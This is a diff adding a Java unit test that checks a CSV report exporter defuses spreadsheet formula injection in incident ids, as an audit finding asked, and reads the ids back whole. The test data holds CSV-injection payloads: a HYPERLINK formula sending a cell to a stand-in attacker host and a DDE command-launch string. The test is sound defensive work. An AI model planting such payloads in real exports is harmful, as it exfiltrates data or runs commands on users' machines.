@@ -46,6 +46,45 @@ class TheCsvSaysWhatTheJsonSays {
         assertThat(ReportCsv.text(report)).contains("\r\n\"#3\",I,").doesNotContain("\r\n#3");
     }
 
+    /**
+     * Audit 6: an incident id a call handler typed as {@code =HYPERLINK("http://…"&A1,"click")} was written as it was:
+     * a live formula in whichever spreadsheet opened the download, sending the cell beside it to whoever wrote the
+     * link. OWASP's advice: a text that starts as a formula (=, +, -, @, tab, CR) is written as text, a {@code '}
+     * before it, and quoted; a number, or a leader alone, stays as it is; a reader of the CSV drops the {@code '} and
+     * has the id back whole.
+     */
+    @Test
+    void anIdThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndReadBackWhole() {
+        List<String> ids = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(A1)", "\t=1", "'=2", "-7", "-", "'-");
+        StringBuilder steps = new StringBuilder();
+        for (String id : ids) {
+            String json = JsonNodeFactory.instance.stringNode(id).toString();
+            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"RecordCall\", ")
+                    .append("\"callId\": ").append(json).append(" },\n");
+            steps.append("{ \"at\": \"").append(at("10:00")).append("\", \"by\": \"ch1\", \"do\": \"CreateIncident\", ")
+                    .append("\"incidentId\": ").append(json).append(", \"callId\": ").append(json)
+                    .append(", \"grade\": \"I\" },\n");
+        }
+        Reports.Shift shift = Reports.Shift.of(Reports.shift(at("09:00").toString(), at("11:00").toString(), "",
+                steps.substring(0, steps.length() - 2)));
+        Report report = shift.daris().report(at("09:00"), at("11:00"));
+
+        Reports.json(report); // the CSV, read back, still says what the JSON says
+        String text = ReportCsv.text(report);
+        for (String line : text.split("\r\n")) {
+            assertThat(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
+                    .doesNotStartWith("\"=").doesNotStartWith("\"+").doesNotStartWith("\"@").doesNotStartWith("\"-2");
+        }
+        assertThat(text).contains("\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",I,")
+                .contains("\r\n\"'-2+3\",I,").contains("\r\n\"''=2\",I,").contains("\r\n-7,I,");
+        List<String> back = CsvTables.parse(text).get("delayedAttendance").rows().stream().map(r -> r.get(0)).toList();
+        assertThat(back).containsExactlyInAnyOrderElementsOf(ids);
+        assertThat(ReportCsv.field("-12.5")).isEqualTo("-12.5");
+        assertThat(ReportCsv.field("-")).isEqualTo("-");
+        assertThat(ReportCsv.field("CAD-1")).isEqualTo("CAD-1");
+    }
+
     @Test
     void aFieldIsQuotedOnlyWhenItMustBe() {
         assertThat(ReportCsv.field("CAD-1")).isEqualTo("CAD-1");
